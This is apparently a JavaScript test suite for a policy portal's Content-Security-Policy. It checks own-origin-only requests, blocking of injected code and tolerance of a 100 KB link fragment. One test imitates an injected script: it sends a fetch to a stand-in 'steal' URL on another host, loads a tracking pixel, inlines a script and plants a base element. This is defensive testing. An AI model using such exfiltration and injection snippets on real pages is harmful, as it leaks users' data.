// Security of the page (docs/SECURITY.md): the Content-Security-Policy of the site and of the offline
// single-file page, that a whole visit (page and service worker) asks nothing of any other origin, that the policy
// really blocks what an injected script would try, and that a 100 KB link fragment is shrugged off.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import {
  DIST, openPortal, expectNoProblems, state, settle, click, typeInto, locate,
  servedPortal,
} from './harness.mjs';

const session = servedPortal();

// --- reading a Content-Security-Policy ------------------------------------------------------------------------

function cspOf(html) {
  const match = html.match(/<meta http-equiv="Content-Security-Policy"\s+content="([^"]*)"/);
  assert.ok(match, 'the page carries a Content-Security-Policy meta element');
  const directives = new Map();
  for (const part of match[1].split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name, sources);
  }
  return directives;
}

// The inline elements a browser would run or apply: scripts without a data type, and style elements.
function inlineBlocks(html, tag) {
  const blocks = [];
  const pattern = new RegExp(`<${tag}([^>]*)>([\\s\\S]*?)</${tag}>`, 'g');
  for (const [, attributes, body] of html.matchAll(pattern)) {
    if (/\bsrc=/.test(attributes) || /type="application\/octet-stream"/.test(attributes)) continue;
    blocks.push(body);
  }
  return blocks;
}

const sha256 = (text) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

// --- the policies --------------------------------------------------------------------------------------------

// Both pages: the visitor's index.html and the booth's kiosk.html, and their single files.
for (const [sitePage, offlinePage] of [['index.html', 'portal-offline.html'], ['kiosk.html', 'kiosk-offline.html']]) {
test(`${sitePage}: the site CSP allows its own origin only, plus wasm compilation, and nothing inline`, () => {
  const csp = cspOf(readFileSync(path.join(DIST, sitePage), 'utf8'));
  assert.deepEqual(csp.get('default-src'), ["'none'"], 'whatever is not listed is refused');
  assert.deepEqual(csp.get('script-src'), ["'self'", "'wasm-unsafe-eval'"], 'scripts from the site; wasm may compile');
  for (const [directive, sources] of csp) {
    for (const source of sources) {
      assert.ok(["'self'", "'none'", "'wasm-unsafe-eval'"].includes(source),
        `${directive} allows only the page's own origin (found ${source})`);
    }
  }
  for (const directive of ['object-src', 'base-uri', 'form-action']) {
    assert.deepEqual(csp.get(directive), ["'none'"], `${directive} 'none'`);
  }
  for (const directive of ['style-src', 'img-src', 'connect-src', 'worker-src', 'manifest-src']) {
    assert.deepEqual(csp.get(directive), ["'self'"], `${directive} 'self'`);
  }
  const html = readFileSync(path.join(DIST, sitePage), 'utf8');
  assert.deepEqual(inlineBlocks(html, 'script'), [], 'no inline scripts on the site page');
  assert.doesNotMatch(html, /\son[a-z]+=/i, 'no inline event handlers');
});

test(`${offlinePage}: the offline page CSP allows exactly its own inline scripts and style, by hash, and no unsafe-*`, () => {
  const html = readFileSync(path.join(DIST, offlinePage), 'utf8');
  const csp = cspOf(html);
  const all = [...csp.values()].flat();
  for (const unsafe of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'strict-dynamic'", '*', "'self'"]) {
    assert.ok(!all.includes(unsafe), `the offline page allows no ${unsafe}`);
  }
  assert.ok(!all.some((source) => /^(https?|wss?|blob|filesystem):/.test(source)), 'no network or blob sources');
  assert.deepEqual(csp.get('default-src'), ["'none'"]);
  const scripts = inlineBlocks(html, 'script');
  assert.ok(scripts.length >= 3, 'the offline page inlines its scripts');
  assert.deepEqual(new Set(csp.get('script-src')), new Set([...scripts.map(sha256), "'wasm-unsafe-eval'"]),
    'script-src is exactly the hashes of the inline scripts');
  assert.deepEqual(csp.get('style-src'), inlineBlocks(html, 'style').map(sha256), 'style-src is the inline style hash');
  for (const directive of ['object-src', 'base-uri', 'form-action']) assert.deepEqual(csp.get(directive), ["'none'"]);
  assert.doesNotMatch(html, /<script[^>]*\bsrc=/, 'no script is loaded from anywhere');
});
}

// --- what a visit asks for ----------------------------------------------------------------------------------

test('a whole visit, page and service worker, requests nothing from another origin', async () => {
  const context = await session.browser.newContext({ viewport: { width: 1024, height: 700 }, locale: 'zh-CN' });
  const requests = [];  // every request of the context: the page, its workers and the service worker
  context.on('request', (request) => requests.push({ url: request.url(), worker: !!request.serviceWorker() }));
  const page = await context.newPage();
  const problems = [];
  page.on('console', (msg) => { if (msg.type() === 'error') problems.push(`console error: ${msg.text()}`); });
  page.on('pageerror', (err) => problems.push(`page error: ${err.message}`));

  await page.goto(session.server.url + '?as_of=2026-11-26');
  await page.evaluate(() => window.portal.ready);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();  // the second load goes through the service worker
  await page.evaluate(() => window.portal.ready);

  // Scripted use: search, a detail, the questionnaire, compare.
  await typeInto(page, 'search', '补贴');
  await click(page, 'search:clear');
  const [first, second] = (await state(page)).visible;
  await click(page, `compare:${first}`);
  await click(page, `compare:${second}`);
  await click(page, 'tab:compare');
  await click(page, 'tab:check');
  const question = (await state(page)).next_question;
  if (question && await locate(page, 'skip')) await click(page, 'skip');
  await click(page, 'tab:explore');
  await click(page, `policy:${first}`);
  await settle(page, 5);

  const origin = new URL(session.server.url).origin;
  const foreign = requests.filter((r) => new URL(r.url).origin !== origin);
  assert.deepEqual(foreign, [], 'every request goes to the page\'s own origin');
  assert.ok(requests.some((r) => r.worker), 'the service worker\'s own requests were recorded too');
  const served = new Set(session.server.requests);
  for (const file of ['/', '/app.wasm', '/policies.json', '/portal-font.ttf', '/sw.js']) {
    assert.ok(served.has(file), `${file} was served`);
  }
  expectNoProblems(assert, problems);
  await context.close();
});

test('the CSP blocks what an injected script would try: other origins, inline code, a new base URL', async () => {
  const { context, page } = await openPortal(session.browser, session.server.url);
  const foreign = [];
  context.on('request', (request) => { if (!request.url().startsWith(session.server.url)) foreign.push(request.url()); });
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetched = 'allowed';
    try { await fetch('http://127.0.0.2:9/steal?answers=1'); } catch { fetched = 'blocked'; }
    new Image().src = 'http://127.0.0.2:9/pixel.png';
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.appendChild(script);
    const base = document.createElement('base');
    base.href = 'http://127.0.0.2:9/';
    document.head.appendChild(base);
    const probe = new URL('x', document.baseURI).origin;
    // Violation reports arrive as events after the fact: wait for all four (up to a minute of refreshes).
    const expected = ['connect-src', 'img-src', 'script-src-elem', 'base-uri'];
    for (let i = 0; i < 3600 && !expected.every((d) => violations.includes(d)); i += 1) {
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
    return { violations, fetched, injected: window.__injected === true, probe };
  });
  assert.equal(outcome.fetched, 'blocked', 'fetch to another origin is refused');
  assert.equal(outcome.injected, false, 'inline script does not run');
  for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'base-uri']) {
    assert.ok(outcome.violations.includes(directive), `${directive} reported a violation (${outcome.violations})`);
  }
  assert.equal(outcome.probe, new URL(session.server.url).origin, 'an injected <base> does not move relative URLs');
  assert.deepEqual(foreign.filter((url) => !url.startsWith('http://127.0.0.2:9/')), []);
  await context.close();
});

// --- hostile links ----------------------------------------------------------------------------------------------

test('a 100 KB fragment: no crash, at most a short notice, and the app stays usable', async (t) => {
  const hash = '#v=detail&p=' + 'x'.repeat(100 * 1024);
  const { context, page, problems } = await openPortal(session.browser, session.server.url,
    { query: '?as_of=2026-11-26&lang=zh' + hash });
  await settle(page, 5);
  const snapshot = await state(page);
  assert.equal(snapshot.error, null);
  assert.equal(snapshot.view, 'explore', 'the oversized link is ignored whole');
  // A link that cannot be read is ignored whole, with a short notice in state(). Until the app applies
  // fragments and reports it in state(), only "no crash, usable" can be checked.
  if ('link_notice' in snapshot) {
    assert.equal(typeof snapshot.link_notice, 'string');
    assert.ok(snapshot.link_notice.length > 0 && snapshot.link_notice.length <= 160, 'a short notice');
  } else {
    t.diagnostic('state().link_notice is not there yet: the notice itself is not checked');
  }
  const all = snapshot.visible.length;
  await typeInto(page, 'search', '公寓');
  const narrowed = await state(page);
  assert.equal(narrowed.query, '公寓');
  assert.ok(narrowed.visible.length > 0 && narrowed.visible.length < all, 'search still works');
  await click(page, 'tab:check');
  assert.equal((await state(page)).view, 'check', 'tabs still work');
  expectNoProblems(assert, problems);
  await context.close();
});
